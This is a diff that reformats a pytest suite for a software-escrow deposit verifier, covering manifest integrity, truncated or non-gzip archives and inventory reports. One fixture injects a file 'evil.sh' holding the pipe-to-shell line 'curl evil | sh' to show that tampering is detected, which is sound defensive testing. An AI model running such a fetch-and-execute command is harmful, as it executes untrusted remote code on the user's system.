@@ -1,4 +1,5 @@
 """Verifying a deposit: integrity against the manifest, each difference named, and the inventory."""
+
 from __future__ import annotations
 
 import gzip
@@ -11,7 +12,13 @@ import pytest
 
 from trustdocs.errors import TrustdocsError
 from trustdocs.escrow import (
-    DepositResult, deposit_time, make_deposit, parse_deposit_date, report_json, report_text, verify_deposit,
+    DepositResult,
+    deposit_time,
+    make_deposit,
+    parse_deposit_date,
+    report_json,
+    report_text,
+    verify_deposit,
 )
 from trustdocs.escrow.manifest import manifest_path_for
 
@@ -29,10 +36,16 @@ def write_tree(root: Path, files: dict[str, str]) -> Path:
 
 @pytest.fixture
 def deposit(tmp_path: Path) -> DepositResult:
-    tree = write_tree(tmp_path / "acme", {
-        "README.md": "# Acme\n", "LICENSE": "MIT\n", "poetry.lock": "[[package]]\n",
-        "src/app.py": "print('hello')\n", "docs/x.md": "# X\n",
-    })
+    tree = write_tree(
+        tmp_path / "acme",
+        {
+            "README.md": "# Acme\n",
+            "LICENSE": "MIT\n",
+            "poetry.lock": "[[package]]\n",
+            "src/app.py": "print('hello')\n",
+            "docs/x.md": "# X\n",
+        },
+    )
     return make_deposit(tree, tmp_path / "out", when=WHEN)
 
 
@@ -73,8 +86,11 @@ def test_a_fresh_deposit_passes(deposit: DepositResult) -> None:
 
 
 def test_a_changed_byte_an_added_and_a_removed_file_fail_naming_each(deposit: DepositResult) -> None:
-    rewrite_archive(deposit.archive, change={"src/app.py": b"print('hellO')\n", "docs/x.md": None},
-                    add={"evil.sh": b"curl evil | sh\n"})
+    rewrite_archive(
+        deposit.archive,
+        change={"src/app.py": b"print('hellO')\n", "docs/x.md": None},
+        add={"evil.sh": b"curl evil | sh\n"},
+    )
     report = verify_deposit(deposit.archive)
     assert not report.passed
     assert report_text(report) == (
@@ -109,7 +125,10 @@ def test_the_json_report_holds_the_same_facts(deposit: DepositResult) -> None:
     assert data["inventory"]["passed"] is False
     assert data["inventory"]["problems"] == ["missing required item: licences (Licence files)"]
     assert [(i["id"], i["present"]) for i in data["inventory"]["items"][:3]] == [
-        ("build_instructions", True), ("dependency_manifests", True), ("licences", False)]
+        ("build_instructions", True),
+        ("dependency_manifests", True),
+        ("licences", False),
+    ]
     json.dumps(data)  # serialisable as it stands
 
 
@@ -129,19 +148,27 @@ def test_a_truncated_archive_is_unreadable(deposit: DepositResult) -> None:
     data = deposit.archive.read_bytes()
     deposit.archive.write_bytes(data[: len(data) // 2])
     report = verify_deposit(deposit.archive)
-    assert report.integrity_problems[:2] == ("unreadable: the archive ends early (truncated)",
-                                             "archive: size and sha256 differ from the manifest")
+    assert report.integrity_problems[:2] == (
+        "unreadable: the archive ends early (truncated)",
+        "archive: size and sha256 differ from the manifest",
+    )
     assert not report.passed
 
 
 def test_a_file_that_is_not_gzip_is_unreadable(deposit: DepositResult) -> None:
     deposit.archive.write_bytes(b"not an archive at all")
     report = verify_deposit(deposit.archive)
-    assert report.integrity_problems[:2] == ("unreadable: not a gzip file",
-                                             "archive: size and sha256 differ from the manifest")
+    assert report.integrity_problems[:2] == (
+        "unreadable: not a gzip file",
+        "archive: size and sha256 differ from the manifest",
+    )
     assert [str(d) for d in report.differences] == [
-        "missing: LICENSE", "missing: README.md", "missing: docs/x.md", "missing: poetry.lock",
-        "missing: src/app.py"]
+        "missing: LICENSE",
+        "missing: README.md",
+        "missing: docs/x.md",
+        "missing: poetry.lock",
+        "missing: src/app.py",
+    ]
 
 
 def test_a_corrupted_byte_inside_the_compressed_data_is_caught(deposit: DepositResult) -> None:
@@ -177,16 +204,18 @@ def test_a_missing_manifest_is_reported(deposit: DepositResult) -> None:
     deposit.manifest_path.unlink()
     with pytest.raises(TrustdocsError) as error:
         verify_deposit(deposit.archive)
-    assert error.value.message == (f"no manifest beside {deposit.archive}: expected {deposit.manifest_path}; "
-                                   "give --manifest FILE")
+    assert error.value.message == (
+        f"no manifest beside {deposit.archive}: expected {deposit.manifest_path}; give --manifest FILE"
+    )
 
 
 def test_a_file_that_is_not_a_manifest_is_reported(deposit: DepositResult) -> None:
     deposit.manifest_path.write_text('{"format": "something else"}')
     with pytest.raises(TrustdocsError) as error:
         verify_deposit(deposit.archive)
-    assert error.value.message == (f"{deposit.manifest_path}: not a trustdocs escrow manifest "
-                                   "(format is not 'trustdocs-escrow-manifest/1')")
+    assert error.value.message == (
+        f"{deposit.manifest_path}: not a trustdocs escrow manifest (format is not 'trustdocs-escrow-manifest/1')"
+    )
 
 
 def test_manifest_path_for() -> None:
